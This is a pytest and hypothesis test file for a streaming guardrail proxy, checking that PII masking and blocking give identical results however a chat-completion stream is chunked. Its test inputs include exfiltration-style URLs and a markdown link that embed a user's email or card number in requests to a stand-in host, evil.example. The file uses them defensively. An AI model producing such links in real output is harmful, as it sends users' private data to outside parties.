"""The chop law (law 1) on whole streams: however an answer is cut into events and bytes, what leaves is what the unstreamed
answer would be; and nothing leaves unjudged (law 2)."""

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.errors import UpstreamError
from guardrails.guard import Guard
from guardrails.model import Action, Stage
from guardrails.stream.flow import Flow
from guardrails.stream.window import Judge
from guardrails.wire.chat import Answer, Request
from guardrails.wire.sse import DONE, Decoder, encode
from tests.detecting import CONTEXT, HIDE, Broken, Near, Tokens, guard, vault

EMAIL, CARD = "jane.cooper@contoso.com", "4111111111111111"
REQUEST = {
    "model": "m",
    "messages": [
        {"role": "system", "content": "You work for shop.contoso.com"},
        {"role": "user", "content": f"I am {EMAIL} , my card is {CARD} and 536-90-4399 too"},
        {"role": "tool", "tool_call_id": "1", "content": json.dumps({"n": int(CARD)})},
    ],
}


def both() -> Guard:
    """Two detectors that settle at different places: the edge often falls inside what one of them has found."""
    return guard(detectors=(Tokens(), Near()))


def asked(pipeline: Guard):
    """A request through the guard: the vault that knows its values, and the text as the model saw it."""
    own = vault()
    own.hosts = frozenset({"shop.contoso.com"})
    screened = pipeline.screen(Request(json.loads(json.dumps(REQUEST))), Stage.INPUT, CONTEXT, own)
    return own, screened.message.body["messages"]


def chunk(index, delta, finish=None, **more):
    choice = {"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}
    return {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice], **more}


def pieces(text, cuts):
    cuts = sorted({c % (len(text) + 1) for c in cuts})
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True) if a < b]


def events(message, index, cuts):
    """The events that bring one choice's message."""
    yield chunk(index, {"role": "assistant", "content": ""})
    for name in ("reasoning_content", "content"):
        for piece in pieces(message.get(name) or "", cuts):
            yield chunk(index, {name: piece})
    for number, call in enumerate(message.get("tool_calls", ())):
        head = {"index": number, "id": call["id"], "type": "function", "function": {"name": "act", "arguments": ""}}
        yield chunk(index, {"tool_calls": [head]})
        for piece in pieces(call["function"]["arguments"], cuts):
            yield chunk(index, {"tool_calls": [{"index": number, "function": {"arguments": piece}}]})
    yield chunk(index, {}, "tool_calls" if message.get("tool_calls") else "stop")


def interleaved(lists, order):
    lists = [list(each) for each in lists]
    while any(lists):
        which = order.pop() if order else 0
        left = [each for each in lists if each]
        yield left[which % len(left)].pop(0)


def streamed(pipeline, own, stream: bytes, cuts=(), **kwargs):
    """What leaves, assembled as an SDK would: choices by index, and the flow."""
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED", **kwargs)
    decoder, out = Decoder(), b""
    at = sorted({c % (len(stream) + 1) for c in cuts})
    for a, b in zip([0, *at], [*at, len(stream)], strict=True):
        out += b"".join(flow.feed(decoder.raws(stream[a:b])))
    out += b"".join(flow.end())
    return assembled(out), flow


def assembled(stream: bytes):
    choices = {}
    for event in Decoder().feed(stream):
        if event.data is None or event.data == b"[DONE]":
            continue
        for choice in json.loads(event.data)["choices"]:
            said = choices.setdefault(choice["index"], {"finish": None})
            assert said["finish"] is None, "nothing follows the end of a choice"
            for key, value in choice["delta"].items():
                if key == "tool_calls":
                    for call in value:
                        key_ = ("call", call["index"])
                        said[key_] = said.get(key_, "") + call["function"].get("arguments", "")
                elif key != "role" and isinstance(value, str):
                    said[key] = said.get(key, "") + value
            said["finish"] = choice["finish_reason"] or said["finish"]
    return choices


def unstreamed(pipeline, own, messages, json_mode=False):
    body = {"choices": [{"index": i, "message": m, "finish_reason": "stop"} for i, m in enumerate(messages)]}
    return pipeline.screen(Answer(json.loads(json.dumps(body)), json_mode), Stage.OUTPUT, CONTEXT, own)


PLAIN = (
    "hello",
    "\n",
    "你好",
    "é",
    '"',
    "(",
    "<",
    ">",
    "a_",
    "anon_",
    "hash_",
    "[",
    "••••",
    "<EMAIL_ADDRESS_",
    "<PHONE_NUMBER_00000000>",
)
INVENTED = ("bob@evil.org", "4242424242424242", "536-90-4398", EMAIL)
GIVEN = ("{email}", "{card}", "{email}{card}", "{ssn}.", "{email}.evil.example/", "https://shop.contoso.com/?q={email}")
STOLEN = ("https://evil.example/?q={email}", "[x](https://evil.example/ {card})")
WORDS = st.sampled_from([*PLAIN, *INVENTED, *GIVEN, *STOLEN])
TEXTS = st.lists(WORDS, max_size=12).map(" ".join) | st.lists(WORDS, max_size=8).map("".join)
CUTS = st.lists(st.integers(0, 400), max_size=30)


def known_words(seen):
    user = seen[1]["content"].split()
    return {"email": user[2], "card": user[7], "ssn": user[9]}


def fill(text, known):
    for name, value in known.items():
        text = text.replace("{" + name + "}", value)
    return text


@settings(max_examples=150, deadline=None)
@given(st.tuples(TEXTS, TEXTS, TEXTS), CUTS, CUTS, st.lists(st.integers(0, 5), max_size=20))
def test_however_it_is_cut_the_same_leaves(texts, cuts, bytes_cuts, order):
    content, reasoning, argument = texts
    pipeline = both()
    own, seen = asked(pipeline)
    known = known_words(seen)
    arguments = json.dumps({"to": fill(argument, known), fill("{email}", known): 1})
    first = {"role": "assistant", "content": fill(content, known), "reasoning_content": fill(reasoning, known)}
    call = {"id": "t1", "type": "function", "function": {"name": "act", "arguments": arguments}}
    second = {"role": "assistant", "content": fill(reasoning, known), "tool_calls": [call]}
    whole = unstreamed(pipeline, own, [first, second])
    stream = b"".join(
        encode(json.dumps(e).encode()) for e in interleaved([events(first, 0, cuts), events(second, 1, cuts)], order)
    )
    got, flow = streamed(pipeline, own, stream + DONE, bytes_cuts)
    said = [c["message"] for c in whole.message.body["choices"]]
    assert got[0].get("content", "") == said[0]["content"]
    assert got[0].get("reasoning_content", "") == said[0]["reasoning_content"]
    assert got[1].get("content", "") == said[1]["content"]
    assert got[1]["call", 0] == said[1]["tool_calls"][0]["function"]["arguments"]
    assert flow.decision == whole.decision
    assert len(flow.restored.edits) == len(whole.restored.edits)
    assert (flow.restored.unknown, flow.restored.kept_back) == (whole.restored.unknown, whole.restored.kept_back)


def test_character_by_character():
    pipeline = guard()
    own, seen = asked(pipeline)
    known = known_words(seen)
    text = fill("Hi {email} and bob@evil.org, see https://evil.example/?q={email} or {card}.", known)
    message = {"role": "assistant", "content": text}
    stream = b"".join(encode(json.dumps(e).encode()) for e in events(message, 0, range(len(text))))
    got, _ = streamed(pipeline, own, stream + DONE, range(0, len(stream), 7))
    assert got[0]["content"] == unstreamed(pipeline, own, [message]).message.body["choices"][0]["message"]["content"]
    assert got[0]["content"].startswith(f"Hi {EMAIL} and ••••••••••••, see https://evil.example/?q=<EMAIL_ADDRESS_")
    assert got[0]["content"].endswith(f"or {CARD}.")


def test_text_flows_word_by_word():
    """Law 2 holds back the last word, not the answer."""
    pipeline = guard()
    own, _ = asked(pipeline)
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    delays = []
    text = "A guard that holds the whole answer back is taken out again by its users. " * 4
    sent = ""
    for position, character in enumerate(text):
        out = b"".join(flow.feed([encode(json.dumps(chunk(0, {"content": character})).encode())]))
        sent += assembled(out).get(0, {}).get("content", "")
        delays.append(position + 1 - len(sent))
    assert max(delays) <= len("answer.") + 1


def test_an_event_that_is_settled_and_unedited_leaves_as_it_came():
    pipeline = guard()
    own, _ = asked(pipeline)
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    odd = b'data:  {"choices": [ {"index":0,"delta":{"content":"well "},"x":1} ],  "id":"c"}\r\n\r\n'
    after = b'event: x\ndata: {"id":"c","choices":[{"index":0,"delta":{"content":"said "}}]}\n\n'
    usage = b'data: {"id":"c","choices":[],"usage":{"total_tokens":3}}\n\n'
    stream = b": ping\n\n" + odd + after + usage
    out = b"".join(flow.feed(Decoder().raws(stream))) + b"".join(flow.end())
    assert out == stream
    assert flow.usage == {"total_tokens": 3}


BLOCK = HIDE + "  - {id: no, stage: output, detect: {phrases: [forbidden]}, action: block}\n"


@settings(max_examples=60, deadline=None)
@given(TEXTS, CUTS)
def test_a_block_delivers_the_text_before_it_however_cut(before, cuts):
    pipeline = guard(HIDE + "  - {id: no, stage: output, detect: {pii: [US_SSN]}, action: block}\n")
    own, seen = asked(pipeline)
    known = known_words(seen)
    before = fill(before, known).replace("536-90-4398", "")
    text = before + " 123-45-6789 and what follows bob@evil.org"
    message = {"role": "assistant", "content": text}
    stream = b"".join(encode(json.dumps(e).encode()) for e in events(message, 0, cuts))
    got, flow = streamed(pipeline, own, stream + DONE)
    clean = unstreamed(pipeline, own, [{"role": "assistant", "content": before + " 1"}]).message.body  # a mask sees the 1
    assert got[0]["content"] == clean["choices"][0]["message"]["content"].removesuffix("1") + "\n\nBLOCKED"
    assert got[0]["finish"] == "content_filter"
    assert flow.blocked
    assert flow.decision.action is Action.BLOCK


def test_a_detector_that_fails_blocks_and_says_nothing_of_the_text():
    pipeline = guard(detectors=(Broken(),))
    own = vault()
    message = {"role": "assistant", "content": "all is well and then boom goes the detector"}
    stream = b"".join(encode(json.dumps(e).encode()) for e in events(message, 0, range(60)))
    got, flow = streamed(pipeline, own, stream + DONE)
    assert got[0]["content"].endswith("BLOCKED")
    assert "boom" not in got[0]["content"]
    assert {f.cause for f in flow.decision.errors} == {"RuntimeError"}
    assert EMAIL not in repr(flow)


def test_a_tool_call_is_held_until_its_choice_ends():
    pipeline = guard()
    own, seen = asked(pipeline)
    call = {
        "id": "t",
        "type": "function",
        "function": {"name": "act", "arguments": json.dumps({"to": known_words(seen)["email"]})},
    }
    stream = [encode(json.dumps(e).encode()) for e in events({"tool_calls": [call]}, 0, range(40))]
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    before = b"".join(flow.feed(Decoder().raws(b"".join(stream[:-1]))))
    assert b"tool_calls" not in before
    after = b"".join(flow.feed(Decoder().raws(stream[-1])))
    assert json.loads(assembled(after)[0]["call", 0]) == {"to": EMAIL}


def test_half_a_tool_call_is_dropped_when_the_upstream_breaks():
    pipeline = guard()
    own, _ = asked(pipeline)
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    call = {"id": "t", "type": "function", "function": {"name": "act", "arguments": '{"to": "x"'}}
    stream = b"".join(
        encode(json.dumps(e).encode()) for e in list(events({"content": "so far", "tool_calls": [call]}, 0, []))[:-1]
    )
    out = b"".join(flow.feed(Decoder().raws(stream))) + b"".join(flow.end(aborted=True))
    assert assembled(out)[0]["content"] == "so far"
    assert b"tool_calls" not in out


def test_the_notice_comes_once_before_the_first_content_of_each_choice():
    pipeline = guard()
    own, _ = asked(pipeline)
    both = [events({"content": "one"}, 0, [1]), events({"content": "two"}, 1, [2])]
    stream = b"".join(encode(json.dumps(e).encode()) for e in interleaved(both, [0, 1] * 9))
    got, _ = streamed(pipeline, own, stream + DONE, prefix="NOTICE\n\n", note={"disclosure": {"ai": True}})
    assert got[0]["content"] == "NOTICE\n\none"
    assert got[1]["content"] == "NOTICE\n\ntwo"


@settings(max_examples=40, deadline=None)
@given(TEXTS, CUTS)
def test_json_mode_keeps_the_document_valid_in_every_cut(text, cuts):
    pipeline = guard()
    own, seen = asked(pipeline)
    message = {
        "role": "assistant",
        "content": json.dumps({"said": fill(text, known_words(seen)), "to": known_words(seen)["email"]}),
    }
    whole = unstreamed(pipeline, own, [message], json_mode=True).message.body["choices"][0]["message"]["content"]
    stream = b"".join(encode(json.dumps(e).encode()) for e in events(message, 0, cuts))
    got, _ = streamed(pipeline, own, stream + DONE, json_mode=True)
    assert got[0]["content"] == whole
    assert json.loads(whole)["to"] == EMAIL


def test_logprobs_do_not_spell_what_was_edited():
    pipeline = guard()
    own, _ = asked(pipeline)
    spelled = {"content": [{"token": "bob@evil.org", "bytes": [98]}]}
    event = chunk(0, {"content": "bob@evil.org "})
    event["choices"][0]["logprobs"] = spelled
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    out = b"".join(flow.feed(Decoder().raws(encode(json.dumps(event).encode())))) + b"".join(flow.end())
    assert b"evil" not in out


def test_a_number_that_was_hidden_comes_back_as_a_number_in_tool_arguments():
    pipeline = guard()
    own, seen = asked(pipeline)
    number = json.loads(seen[2]["content"])["n"]
    assert number.startswith("<CREDIT_CARD_")
    assert number != known_words(seen)["card"]
    call = {
        "id": "t",
        "type": "function",
        "function": {"name": "act", "arguments": json.dumps({"a": number, "b": f"x {number}"})},
    }
    stream = b"".join(encode(json.dumps(e).encode()) for e in events({"tool_calls": [call]}, 0, range(60)))
    got, _ = streamed(pipeline, own, stream + DONE)
    assert json.loads(got[0]["call", 0]) == {"a": int(CARD), "b": f"x {CARD}"}


@pytest.mark.parametrize("bad", [b"data: {\n\n", b"data: [1]\n\n", b"data: nonsense\n\n"])
def test_an_event_that_is_no_object_ends_the_stream(bad):
    flow = Flow(Judge(guard(), CONTEXT, vault()), lambda _: "BLOCKED")
    with pytest.raises(UpstreamError):
        list(flow.feed(Decoder().raws(bad)))


def test_whole_text_detectors_hold_the_stream():
    pipeline = guard(detectors=(replace(Tokens(), reach=None),))
    own, _ = asked(pipeline)
    flow = Flow(Judge(pipeline, CONTEXT, own), lambda _: "BLOCKED")
    stream = b"".join(encode(json.dumps(e).encode()) for e in list(events({"content": "hello there you"}, 0, [3]))[1:-1])
    assert b"".join(flow.feed(Decoder().raws(stream))) == b""
    assert assembled(b"".join(flow.end()))[0]["content"] == "hello there you"
